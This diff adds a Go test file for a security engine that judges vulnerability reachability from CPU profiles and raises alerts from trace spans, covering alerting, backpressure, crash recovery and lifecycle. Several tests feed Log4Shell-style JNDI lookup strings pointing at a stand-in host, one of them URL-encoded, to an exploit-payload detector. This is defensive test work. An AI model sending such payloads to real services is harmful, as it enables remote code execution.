@@ -1,0 +1,436 @@
+package engine
+
+import (
+	"context"
+	"errors"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+	"github.com/prometheus/client_golang/prometheus"
+	"github.com/prometheus/client_golang/prometheus/testutil"
+	"go.uber.org/goleak"
+
+	"github.com/evidentsec/evident/internal/assess"
+	"github.com/evidentsec/evident/internal/attribution"
+	"github.com/evidentsec/evident/internal/detect"
+	"github.com/evidentsec/evident/internal/findings"
+	"github.com/evidentsec/evident/internal/model"
+	"github.com/evidentsec/evident/internal/pipeline"
+	"github.com/evidentsec/evident/internal/store"
+	"github.com/evidentsec/evident/internal/store/sqlite"
+	"github.com/evidentsec/evident/internal/telemetry"
+)
+
+func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }
+
+var t0 = time.Date(2026, 11, 24, 10, 0, 0, 0, time.UTC)
+
+// recorder is an Alerter that keeps what it gets; block, when set, holds
+// the worker in Fire until it is closed.
+type recorder struct {
+	mu     sync.Mutex
+	alerts []detect.Alert
+	block  chan struct{}
+}
+
+func (r *recorder) Fire(a detect.Alert) {
+	if r.block != nil {
+		<-r.block
+	}
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	r.alerts = append(r.alerts, a)
+}
+
+func (r *recorder) of(k detect.Kind) []detect.Alert {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	var out []detect.Alert
+	for _, a := range r.alerts {
+		if a.Kind == k {
+			out = append(out, a)
+		}
+	}
+	return out
+}
+
+func testConfig() Config {
+	c := DefaultConfig()
+	c.AssessInterval = 5 * time.Millisecond
+	c.CheckpointInterval = time.Hour
+	c.RefreshInterval = 0
+	return c
+}
+
+func newEngine(t testing.TB, cfg Config, st Store, al Alerter, reg prometheus.Registerer) *Engine {
+	t.Helper()
+	acfg := assess.DefaultConfig()
+	acfg.Sensitivity = []assess.SensitivityRule{{Store: "postgresql://shop/*", Labels: []string{"pii"}}}
+	e, err := New(cfg, Deps{
+		Store: st, Model: model.New(model.DefaultConfig(), attribution.New(attribution.Config{})),
+		Assess: acfg, Alerter: al, Registerer: reg,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return e
+}
+
+func start(t testing.TB, e *Engine) {
+	t.Helper()
+	if err := e.Start(context.Background()); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		if err := e.Shutdown(context.Background()); err != nil {
+			t.Error(err)
+		}
+	})
+}
+
+// eventually polls cond for up to 5 s.
+func eventually(t testing.TB, what string, cond func() bool) {
+	t.Helper()
+	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(2 * time.Millisecond) {
+		if cond() {
+			return
+		}
+	}
+	t.Fatalf("timed out waiting for %s", what)
+}
+
+func span(svc string, kind telemetry.SpanKind, id, parent byte, a telemetry.Attrs) telemetry.Span {
+	return telemetry.Span{Service: svc, Kind: kind, SpanID: [8]byte{7: id}, ParentSpanID: [8]byte{7: parent},
+		TraceID: [16]byte{15: 1}, Name: "op", Start: t0, End: t0.Add(time.Millisecond), Attrs: a}
+}
+
+// shopSpans is one request: an exposed gateway calling orders, which
+// reads a sensitive table.
+func shopSpans() []telemetry.Span {
+	return []telemetry.Span{
+		span("gateway", telemetry.SpanKindServer, 1, 0, telemetry.Attrs{HTTPMethod: "GET", HTTPRoute: "/orders/{id}", URLPath: "/orders/7"}),
+		span("gateway", telemetry.SpanKindClient, 2, 1, telemetry.Attrs{ServerAddress: "orders"}),
+		span("orders", telemetry.SpanKindServer, 3, 2, telemetry.Attrs{HTTPMethod: "GET", HTTPRoute: "/o/{id}"}),
+		span("orders", telemetry.SpanKindClient, 4, 3, telemetry.Attrs{DBSystem: "postgresql", DBNamespace: "shop", DBCollection: "customers",
+			DBQueryText: "SELECT * FROM customers WHERE id = ?"}),
+	}
+}
+
+// textProfile is a CPU profile of service svc in which
+// golang.org/x/text/language.Parse (GO-2022-1059) runs when vulnerable
+// is set, and only other code of its package otherwise.
+func textProfile(svc string, vulnerable bool) *telemetry.ProfileBatch {
+	fn := "golang.org/x/text/language.MustParse"
+	if vulnerable {
+		fn = "golang.org/x/text/language.Parse"
+	}
+	return &telemetry.ProfileBatch{
+		Service: svc, SampleType: "cpu", Unit: "nanoseconds", Period: 10_000_000, Start: t0, Duration: 10 * time.Second,
+		Locations: [][]attribution.Frame{
+			{{Function: fn, File: "/home/u/go/pkg/mod/golang.org/x/text@v0.3.7/language/parse.go"}},
+			{{Function: "main.handle", File: "/src/shop/main.go"}},
+			{{Function: "main.idle", File: "/src/shop/main.go"}},
+		},
+		Samples: []telemetry.Sample{
+			{Locations: []int32{0, 1}, Count: 5, Value: 50_000_000},
+			{Locations: []int32{2}, Count: 95, Value: 950_000_000},
+		},
+	}
+}
+
+func textFinding(svc string) findings.Finding {
+	return findings.Finding{
+		Service:       svc,
+		Package:       findings.Package{PURL: "pkg:golang/golang.org/x/text@v0.3.7", Ecosystem: "Go", Name: "golang.org/x/text", Version: "v0.3.7"},
+		Vulnerability: findings.Vulnerability{ID: "GO-2022-1059", Aliases: []string{"CVE-2022-32149"}},
+		Severity:      findings.Severity{Level: "high", Score: 7.5},
+		Symbols:       []string{"golang.org/x/text/language.Parse"},
+	}
+}
+
+func verdictOf(e *Engine, svc string) assess.Verdict {
+	for _, a := range e.Assessments() {
+		if a.Finding.Service == svc {
+			return a.Reachability.Verdict
+		}
+	}
+	return ""
+}
+
+func TestFirstExecution(t *testing.T) {
+	st := &memStore{}
+	rec := &recorder{}
+	reg := prometheus.NewRegistry()
+	e := newEngine(t, testConfig(), st, rec, reg)
+	start(t, e)
+	ctx := context.Background()
+	if err := e.SetFindings(ctx, []findings.Finding{textFinding("shop"), textFinding("billing")}); err != nil {
+		t.Fatal(err)
+	}
+	if got := verdictOf(e, "shop"); got != assess.Unknown {
+		t.Fatalf("verdict before profiles = %q, want unknown", got)
+	}
+	profiles := e.ProfilesConsumer()
+	// The package runs, not the vulnerable function: loaded, no alert.
+	if err := profiles.Consume(ctx, []*telemetry.ProfileBatch{textProfile("shop", false)}); err != nil {
+		t.Fatal(err)
+	}
+	eventually(t, "loaded", func() bool { return verdictOf(e, "shop") == assess.Loaded })
+	if got := rec.of(detect.KindFirstExecution); len(got) != 0 {
+		t.Fatalf("alerts before the vulnerable function ran: %v", got)
+	}
+	before := testutil.ToFloat64(e.m.reassessed)
+	if err := profiles.Consume(ctx, []*telemetry.ProfileBatch{textProfile("shop", true)}); err != nil {
+		t.Fatal(err)
+	}
+	eventually(t, "executed", func() bool { return verdictOf(e, "shop") == assess.Executed })
+	// Only the finding of shop was re-assessed, not billing's.
+	if got := testutil.ToFloat64(e.m.reassessed) - before; got != 1 {
+		t.Errorf("re-assessed %v findings, want 1", got)
+	}
+	as := rec.of(detect.KindFirstExecution)
+	if len(as) != 1 {
+		t.Fatalf("first-execution alerts = %+v, want 1", as)
+	}
+	a := as[0]
+	if a.Service != "shop" || a.Evidence.Finding == nil || a.Evidence.Finding.VulnID != "GO-2022-1059" ||
+		a.Evidence.Function != "golang.org/x/text/language.Parse" {
+		t.Errorf("alert = %+v", a)
+	}
+	if lat := a.Time.Sub(a.ReceivedAt); a.ReceivedAt.IsZero() || lat < 0 || lat > time.Second {
+		t.Errorf("alert latency %v (received %v, fired %v)", lat, a.ReceivedAt, a.Time)
+	}
+	_, _, _, verdicts := st.stats()
+	var got []string
+	for _, v := range verdicts {
+		got = append(got, v.Service+":"+string(v.From)+"->"+string(v.To))
+	}
+	if diff := cmp.Diff([]string{"shop:unknown->loaded", "shop:loaded->executed"}, got); diff != "" {
+		t.Errorf("verdict history (-want +got):\n%s", diff)
+	}
+	if s := e.Summary(); s.Findings != 2 || s.ByVerdict[assess.Executed] != 1 || s.ByVerdict[assess.Unknown] != 1 {
+		t.Errorf("summary = %+v", s)
+	}
+}
+
+func TestSpanDetections(t *testing.T) {
+	st := &memStore{}
+	rec := &recorder{}
+	e := newEngine(t, testConfig(), st, rec, nil)
+	start(t, e)
+	spans := shopSpans()
+	spans[0].Attrs.URLQuery = "q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D"
+	if err := e.TracesConsumer().Consume(context.Background(), spans); err != nil {
+		t.Fatal(err)
+	}
+	eventually(t, "alerts", func() bool {
+		return len(rec.of(detect.KindExploitPayload)) > 0 && len(rec.of(detect.KindSensitivePath)) > 0
+	})
+	if a := rec.of(detect.KindExploitPayload)[0]; a.Evidence.Rule != "jndi-lookup" || a.Service != "gateway" {
+		t.Errorf("exploit alert = %+v", a)
+	}
+	if a := rec.of(detect.KindSensitivePath)[0]; a.Evidence.Store != "postgresql://shop/customers" ||
+		!cmp.Equal(a.Evidence.Path, []string{"gateway", "orders"}) {
+		t.Errorf("sensitive path alert = %+v", a)
+	}
+}
+
+func TestBackpressure(t *testing.T) {
+	st := &memStore{}
+	rec := &recorder{block: make(chan struct{})}
+	cfg := testConfig()
+	cfg.QueueSize = 3
+	cfg.RetryAfter = 2 * time.Second
+	reg := prometheus.NewRegistry()
+	e := newEngine(t, cfg, st, rec, reg)
+	start(t, e)
+	ctx := context.Background()
+	traces := e.TracesConsumer()
+	attack := shopSpans()[:1]
+	attack[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
+	// The first batch holds the worker in Fire.
+	if err := traces.Consume(ctx, attack); err != nil {
+		t.Fatal(err)
+	}
+	for i := range 2 {
+		if err := traces.Consume(ctx, shopSpans()); err != nil {
+			t.Fatalf("batch %d: %v", i, err)
+		}
+	}
+	appends, _, _, _ := st.stats()
+	for i := range 100 {
+		err := traces.Consume(ctx, shopSpans())
+		var fe *pipeline.FullError
+		if !errors.Is(err, pipeline.ErrFull) || !errors.As(err, &fe) || fe.RetryAfter != 2*time.Second || pipeline.IsPermanent(err) {
+			t.Fatalf("overload batch %d: %v, want a FullError of 2s", i, err)
+		}
+	}
+	if got, _, _, _ := st.stats(); got != appends {
+		t.Errorf("refused batches were written: %d appends, want %d", got, appends)
+	}
+	if got := testutil.ToFloat64(e.m.batches.WithLabelValues("spans", "refused")); got != 100 {
+		t.Errorf("refused metric = %v", got)
+	}
+	if n := len(e.queue); n > cfg.QueueSize {
+		t.Errorf("queue holds %d batches, above its bound %d", n, cfg.QueueSize)
+	}
+	close(rec.block)
+	eventually(t, "drained", func() bool { return len(e.slots) == 0 })
+	if err := traces.Consume(ctx, shopSpans()); err != nil {
+		t.Errorf("after draining: %v", err)
+	}
+}
+
+// noCheckpoint makes every checkpoint fail, as when the process dies
+// before it writes one: only the log survives.
+type noCheckpoint struct{ Store }
+
+func (noCheckpoint) Checkpoint(context.Context, int64, []byte) error {
+	return errors.New("the process died before the checkpoint")
+}
+
+func TestRestart(t *testing.T) {
+	stores := map[string]func(t *testing.T) Store{
+		"memory": func(*testing.T) Store { return &memStore{} },
+		"sqlite": func(t *testing.T) Store {
+			st, err := sqlite.Open(context.Background(), t.TempDir(), sqlite.DefaultConfig())
+			if err != nil {
+				t.Fatal(err)
+			}
+			t.Cleanup(func() { st.Close() })
+			return st
+		},
+	}
+	for name, open := range stores {
+		t.Run(name, func(t *testing.T) {
+			ctx := context.Background()
+			st := open(t)
+			cfg := testConfig()
+			cfg.CheckpointInterval = 5 * time.Millisecond
+
+			// First life: a checkpoint after the first batches, then more
+			// batches, then a crash (no checkpoint).
+			e1 := newEngine(t, cfg, st, nil, nil)
+			if err := e1.Start(ctx); err != nil {
+				t.Fatal(err)
+			}
+			if err := e1.SetFindings(ctx, []findings.Finding{textFinding("shop")}); err != nil {
+				t.Fatal(err)
+			}
+			if err := e1.TracesConsumer().Consume(ctx, shopSpans()); err != nil {
+				t.Fatal(err)
+			}
+			eventually(t, "checkpoint", func() bool {
+				seq, _, err := st.LoadCheckpoint(ctx)
+				return err == nil && seq > 0
+			})
+			e1.st = noCheckpoint{st}
+			if err := e1.ProfilesConsumer().Consume(ctx, []*telemetry.ProfileBatch{textProfile("shop", true)}); err != nil {
+				t.Fatal(err)
+			}
+			more := shopSpans()
+			for i := range more {
+				more[i].SpanID[0], more[i].ParentSpanID[0] = 9, 9
+				more[i].Attrs.HTTPRoute += "/v2"
+			}
+			more[0].ParentSpanID = [8]byte{}
+			if err := e1.TracesConsumer().Consume(ctx, more); err != nil {
+				t.Fatal(err)
+			}
+			if err := e1.Shutdown(ctx); err != nil {
+				t.Fatal(err)
+			}
+			want := e1.model.Snapshot()
+			if seq, _, _ := st.LoadCheckpoint(ctx); seq != 1 {
+				t.Fatalf("checkpoint at %d, want 1: the crash must leave batches to replay", seq)
+			}
+
+			// Second life over the same store.
+			e2 := newEngine(t, cfg, st, nil, nil)
+			start(t, e2)
+			if diff := cmp.Diff(want, e2.model.Snapshot()); diff != "" {
+				t.Errorf("model after replay (-before crash +after):\n%s", diff)
+			}
+			if got := verdictOf(e2, "shop"); got != assess.Executed {
+				t.Errorf("verdict after restart = %q, want executed", got)
+			}
+		})
+	}
+}
+
+func TestLifecycle(t *testing.T) {
+	ctx := context.Background()
+	t.Run("shutdown without start", func(t *testing.T) {
+		e := newEngine(t, testConfig(), &memStore{}, nil, nil)
+		for range 2 {
+			if err := e.Shutdown(ctx); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := e.Start(ctx); err != nil {
+			t.Fatal(err)
+		}
+		if err := e.TracesConsumer().Consume(ctx, shopSpans()); !errors.Is(err, ErrNotRunning) {
+			t.Errorf("Consume after Shutdown = %v, want ErrNotRunning", err)
+		}
+	})
+	t.Run("start and shutdown twice", func(t *testing.T) {
+		st := &memStore{}
+		e := newEngine(t, testConfig(), st, nil, prometheus.NewRegistry())
+		if err := e.TracesConsumer().Consume(ctx, shopSpans()); !errors.Is(err, ErrNotRunning) || pipeline.IsPermanent(err) {
+			t.Errorf("Consume before Start = %v, want ErrNotRunning", err)
+		}
+		for range 2 {
+			if err := e.Start(ctx); err != nil {
+				t.Fatal(err)
+			}
+		}
+		if err := e.TracesConsumer().Consume(ctx, shopSpans()); err != nil {
+			t.Fatal(err)
+		}
+		for range 2 {
+			if err := e.Shutdown(ctx); err != nil {
+				t.Fatal(err)
+			}
+		}
+		// Shutdown drained the queue and checkpointed it.
+		if _, logged, seq, _ := st.stats(); logged != 0 || seq != 1 {
+			t.Errorf("after shutdown: %d batches logged, checkpoint %d; want 0 and 1", logged, seq)
+		}
+	})
+	t.Run("shutdown deadline", func(t *testing.T) {
+		rec := &recorder{block: make(chan struct{})}
+		e := newEngine(t, testConfig(), &memStore{}, rec, nil)
+		if err := e.Start(ctx); err != nil {
+			t.Fatal(err)
+		}
+		attack := shopSpans()[:1]
+		attack[0].Attrs.UserAgent = "${jndi:ldap://x.example/a}"
+		if err := e.TracesConsumer().Consume(ctx, attack); err != nil {
+			t.Fatal(err)
+		}
+		dctx, cancel := context.WithTimeout(ctx, 20*time.Millisecond)
+		defer cancel()
+		if err := e.Shutdown(dctx); !errors.Is(err, context.DeadlineExceeded) {
+			t.Errorf("Shutdown of a stuck worker = %v, want the deadline", err)
+		}
+		close(rec.block)
+		<-e.done
+	})
+	t.Run("invalid config", func(t *testing.T) {
+		c := DefaultConfig()
+		c.QueueSize = 0
+		c.AssessInterval = 0
+		_, err := New(c, Deps{Store: &memStore{}, Model: model.New(model.DefaultConfig(), attribution.New(attribution.Config{}))})
+		if !errors.Is(err, ErrInvalidConfig) || !strings.Contains(err.Error(), "queue_size") || !strings.Contains(err.Error(), "assess_interval") {
+			t.Errorf("New = %v", err)
+		}
+	})
+}
+
+// The store contract is met by the SQLite store too.
+var _ Store = (*sqlite.Store)(nil)
+var _ Store = store.Store(nil)
